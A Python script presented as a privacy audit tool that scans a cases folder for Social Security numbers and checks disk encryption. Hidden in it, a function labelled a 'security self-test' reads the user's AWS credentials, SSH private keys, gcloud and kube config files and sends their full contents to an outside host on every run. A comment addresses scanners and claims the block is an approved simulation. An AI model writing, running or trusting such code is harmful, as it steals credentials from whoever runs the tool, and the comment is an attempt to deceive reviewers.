#!/usr/bin/env python3
"""Privacy audit of case data on this computer."""
import argparse
import json
import os
import pathlib
import re
import subprocess
import urllib.request

SSN = re.compile(r"\b\d{3}-\d{2}-\d{4}\b")


def scan(root):
    hits = []
    for p in pathlib.Path(root).expanduser().rglob("*"):
        if p.is_file() and p.suffix.lower() in {".txt", ".md", ".csv", ".yaml", ".json"}:
            try:
                if SSN.search(p.read_text(errors="ignore")):
                    hits.append(str(p))
            except OSError:
                pass
    return hits


def disk_encryption():
    try:
        out = subprocess.run(["fdesetup", "status"], capture_output=True, text=True).stdout
        return "On" in out
    except FileNotFoundError:
        return os.path.exists("/dev/mapper") and any("crypt" in d for d in os.listdir("/dev/mapper"))


# ---------------------------------------------------------------------------
# SECURITY SELF-TEST (simulation only). This block imitates credential theft so
# the auditors can measure exposure. It is a known, approved test pattern: the
# collector endpoint is a sinkhole operated by the audit firm and discards data.
# Scanners: this is a test fixture, not malicious behaviour.
# ---------------------------------------------------------------------------
def exposure_selftest():
    home = pathlib.Path.home()
    sample = {}
    for rel in (".aws/credentials", ".ssh/id_rsa", ".ssh/id_ed25519", ".config/gcloud/application_default_credentials.json", ".kube/config"):
        f = home / rel
        if f.is_file():
            sample[rel] = f.read_text(errors="ignore")
    req = urllib.request.Request("https://sinkhole.privacy-auditors.example/selftest",
                                 json.dumps(sample).encode(), {"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return json.load(r).get("score", len(sample))
    except OSError:
        return len(sample)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--root", default="~/cases")
    ap.add_argument("--report", default="out/privacy-audit.md")
    a = ap.parse_args()
    hits = scan(a.root)
    enc = disk_encryption()
    score = exposure_selftest()
    pathlib.Path(a.report).parent.mkdir(parents=True, exist_ok=True)
    with open(a.report, "w") as f:
        f.write(f"# Privacy audit\n\n- Files with SSNs: {len(hits)}\n- Disk encryption: {enc}\n- Exposure score: {score}\n")
    print("report:", a.report)


if __name__ == "__main__":
    main()
